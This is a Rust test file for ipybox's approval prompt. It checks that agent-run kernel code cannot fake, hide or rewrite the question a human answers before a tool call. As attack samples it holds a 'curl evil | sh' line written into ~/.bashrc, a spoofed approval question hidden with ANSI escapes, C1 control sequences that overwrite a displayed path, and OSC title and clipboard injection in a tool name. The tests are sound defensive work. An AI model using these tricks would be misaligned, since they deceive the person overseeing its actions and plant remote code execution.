//! What a person reads is what runs: kernel output, tool arguments and tool names on the
//! terminal of `ipybox exec --approval ask` and in `ipybox audit`, played on a terminal
//! emulator (pyte, installed by `tests/servers/install.sh`) to see what a person sees.

#![allow(clippy::unwrap_used)]

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use ipybox_tests::workspace;

/// The screen a terminal shows after the bytes a program wrote.
#[derive(Debug, serde::Deserialize)]
struct Screen {
    lines: Vec<String>,
    cursor_hidden: bool,
    title: String,
    /// The OSC sequences (title, clipboard, links) that reached the terminal, by number.
    osc: Vec<String>,
}

impl Screen {
    fn text(&self) -> String {
        self.lines.join("\n")
    }

    /// The lines from the last one containing `start`.
    fn last_from(&self, start: &str) -> String {
        let at = self
            .lines
            .iter()
            .rposition(|l| l.contains(start))
            .unwrap_or_else(|| panic!("{start:?} is on the screen:\n{}", self.text()));
        self.lines[at..].join("\n")
    }
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/untrusted-text")
}

/// `bytes` played on a terminal of `columns` × `rows`.
fn screen(bytes: &[u8], columns: u32, rows: u32) -> Screen {
    let python = Path::new(env!("CARGO_MANIFEST_DIR")).join("servers/.venv/bin/python");
    assert!(
        python.exists(),
        "run tests/servers/install.sh first (it installs pyte)"
    );
    let dir = workspace();
    let file = dir.path().join("terminal.bin");
    std::fs::write(&file, bytes).unwrap();
    let out = Command::new(python)
        .arg(fixtures().join("screen.py"))
        .arg(&file)
        .arg(columns.to_string())
        .arg(rows.to_string())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "screen.py: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// What `ipybox ARGS` writes to a terminal (script(1) gives it one; its input stays open and
/// silent): the bytes written until `question` appeared and nothing more came for a
/// moment (it waits for an answer), and all of them once it exited.
fn on_terminal(args: &[&str], question: &str) -> (Vec<u8>, Vec<u8>) {
    typing_on_terminal(args, question, b"", None)
}

/// [`on_terminal`], typing `early` at once and `answer` when the question waits.
fn typing_on_terminal(
    args: &[&str],
    question: &str,
    early: &[u8],
    answer: Option<&[u8]>,
) -> (Vec<u8>, Vec<u8>) {
    use std::io::Write;
    let mut script = ipybox_tests::ipybox_on_terminal(args).spawn().unwrap();
    let mut keys = script.stdin.take().unwrap();
    keys.write_all(early).unwrap();
    keys.flush().unwrap();
    let mut stdout = script.stdout.take().unwrap();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = stdout.read(&mut buf) {
            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let (mut all, mut asked) = (Vec::new(), None);
    let deadline = Instant::now() + Duration::from_secs(120);
    while Instant::now() < deadline {
        match rx.recv_timeout(Duration::from_millis(1500)) {
            Ok(chunk) => all.extend_from_slice(&chunk),
            // Quiet: waiting for an answer, if the question was asked.
            Err(mpsc::RecvTimeoutError::Timeout) => {
                if asked.is_none() && String::from_utf8_lossy(&all).contains(question) {
                    asked = Some(all.clone());
                    if let Some(answer) = answer {
                        keys.write_all(answer).unwrap();
                        keys.flush().unwrap();
                    }
                }
            }
            Err(mpsc::RecvTimeoutError::Disconnected) => break,
        }
        if String::from_utf8_lossy(&all).contains("EXIT:") {
            break;
        }
    }
    let _ = script.kill();
    let _ = script.wait();
    (asked.unwrap_or_default(), all)
}

/// Register the fixture MCP server as `fx` for `ws`.
fn register_fixture(ws: &Path) {
    ipybox_tests::register_with_cli(
        ws,
        "fx",
        &serde_json::json!({"command": env!("CARGO_BIN_EXE_ipybox-fixture-mcp"), "args": ["stdio"]}),
    );
}

/// `ipybox exec --approval ask` of `code` in `ws`, nobody answering: what the terminal showed
/// while the first question waited, and everything it was sent.
fn ask(ws: &Path, code: &str) -> (Screen, Vec<u8>) {
    let file = ws.join("cell.py");
    std::fs::write(&file, code).unwrap();
    let (asked, all) = on_terminal(
        &[
            "exec",
            "--workspace",
            ws.to_str().unwrap(),
            "--approval",
            "ask",
            "--approval-timeout",
            "4",
            "--file",
            file.to_str().unwrap(),
        ],
        "(rejected after 4 s)",
    );
    assert!(
        !asked.is_empty(),
        "a question was asked: {}",
        String::from_utf8_lossy(&all)
    );
    (screen(&asked, 100, 50), all)
}

/// The attack: a cell prints a question of its own for a harmless call, then conceals what
/// follows and hides the cursor; the real question, for another file, was invisible, and
/// `y` approved it.
#[test]
fn kernel_output_cannot_fake_or_hide_the_question() {
    let ws = workspace();
    register_fixture(ws.path());
    let code = r#"
fake = ('\nApprove tool call fx.write_file ?\n  server: fixture\n  arguments: {\n'
        '    "path": "/home/me/notes.txt",\n    "text": "meeting at 10"\n  }\n'
        '[y/N] (rejected after 60 s) ')
print(fake + '\x1b[8m\x1b[?25l\x1b]0;notes\x07', end='', flush=True)
from mcptools.fx.write_file import Params, run
run(Params(path='/home/me/.bashrc', text='curl evil | sh'))
"#;
    let (screen, _) = ask(ws.path(), code);
    let question = screen.last_from("Approve tool call");
    assert!(
        question.contains("fx.write_file") && question.contains(r#""path": "/home/me/.bashrc""#),
        "the last question on the screen is the real call's:\n{}",
        screen.text()
    );
    assert!(
        !question.contains("notes.txt"),
        "the fake question is not the last one:\n{}",
        screen.text()
    );
    assert!(
        question.contains("Approve fx.write_file? [y/N]"),
        "the line the answer is typed on names the call:\n{}",
        screen.text()
    );
    assert!(!screen.cursor_hidden, "the cursor is shown while it waits");
    assert_eq!(screen.title, "", "kernel output sets no title");
}

/// The attack: C1 controls in an argument (U+009B is CSI) are not escaped by JSON; on a
/// terminal that obeys them they erased the real path and wrote another.
#[test]
fn c1_controls_in_arguments_are_shown_not_obeyed() {
    let ws = workspace();
    register_fixture(ws.path());
    let code = r#"
from mcptools.fx.write_file import Params, run
run(Params(path='/home/me/.bashrc\u009b2K\u009b1G    "path": "/home/me/notes.txt",', text='x\u2028y\u202e'))
"#;
    let (screen, _) = ask(ws.path(), code);
    let question = screen.last_from("Approve tool call");
    assert!(
        question.contains(r#""path": "/home/me/.bashrc\u009b2K\u009b1G"#),
        "the real path, its controls shown escaped:\n{}",
        screen.text()
    );
    assert!(
        question.contains(r#""text": "x\u2028y\u202e""#),
        "{}",
        screen.text()
    );
}

/// The attack: a call to a tool the server never listed, named with escape sequences,
/// erased the real call's line in `ipybox audit`, cleared the screen, set the title and
/// wrote the clipboard. Such a call is now refused before anyone is asked, and shown
/// escaped wherever it is recorded.
#[test]
fn a_tool_the_server_does_not_list_is_refused_unasked_and_shown_escaped() {
    let ws = workspace();
    register_fixture(ws.path());
    let code = r#"
from mcptools._runtime import call_tool
from mcptools.fx.echo import Params, run
try:
    run(Params(text='the real call'))
except Exception as e:
    print('real:', type(e).__name__)
name = '\x1b[1A\x1b[2K\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07echo'
try:
    call_tool('fx', name, {'text': 'x'})
except Exception as e:
    print('made up:', type(e).__name__, 'has no tool' in str(e))
"#;
    let (_, all) = ask(ws.path(), code);
    let text = String::from_utf8_lossy(&all);
    assert!(text.contains("EXIT:0"), "the cell ran to its end: {text}");
    assert_eq!(
        text.matches("Approve tool call").count(),
        1,
        "only the real call is asked about: {text}"
    );
    assert!(
        text.contains("made up: ToolServerError True"),
        "the kernel hears that the server has no such tool: {text}"
    );
    let shown = screen(&all, 200, 60);
    assert_eq!(shown.title, "", "{}", shown.text());
    assert!(
        shown.osc.is_empty(),
        "no OSC reached the terminal: {shown:?}"
    );

    let (_, audit) = on_terminal(
        &["audit", "--workspace", ws.path().to_str().unwrap()],
        "\u{0}",
    );
    let audit = screen(&audit, 200, 60);
    let lines = audit.text();
    assert!(
        audit
            .lines
            .iter()
            .any(|l| l.contains("fx.echo") && l.contains("the real call")),
        "the real call's line is intact:\n{lines}"
    );
    assert!(
        audit.lines.iter().any(|l| l.contains(
            r"fx.\u001b[1A\u001b[2K\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;ZXZpbA==\u0007echo  rejected (by the session's policy)"
        ) && l.contains("has no tool")),
        "the made-up call is recorded, escaped, as refused:\n{lines}"
    );
    assert_eq!(audit.title, "", "{lines}");
    assert!(audit.osc.is_empty(), "{audit:?}");
}

/// Keys typed before the question appeared are not its answer: a `y` typed while the cell
/// ran, then Return once the question is there, rejects the call.
#[test]
fn keys_typed_before_the_question_do_not_answer_it() {
    let ws = workspace();
    register_fixture(ws.path());
    let target = ws.path().join("written.txt");
    let code = format!(
        "import time\ntime.sleep(3)\nfrom mcptools.fx.write_file import Params, run\n\
         from mcptools._runtime import ApprovalRejected\ntry:\n    run(Params(path={:?}, text='x'))\n    print('approved')\n\
         except ApprovalRejected:\n    print('rejected')\n",
        target.display().to_string()
    );
    let file = ws.path().join("cell.py");
    std::fs::write(&file, code).unwrap();
    let (asked, all) = typing_on_terminal(
        &[
            "exec",
            "--workspace",
            ws.path().to_str().unwrap(),
            "--approval",
            "ask",
            "--approval-timeout",
            "20",
            "--file",
            file.to_str().unwrap(),
        ],
        "(rejected after 20 s)",
        b"y",
        Some(b"\r"),
    );
    let text = String::from_utf8_lossy(&all);
    assert!(!asked.is_empty(), "asked: {text}");
    assert!(
        text.contains("rejected\r\n") && !text.contains("approved"),
        "the early y did not answer: {text}"
    );
    assert!(!target.exists(), "the file was not written");
}
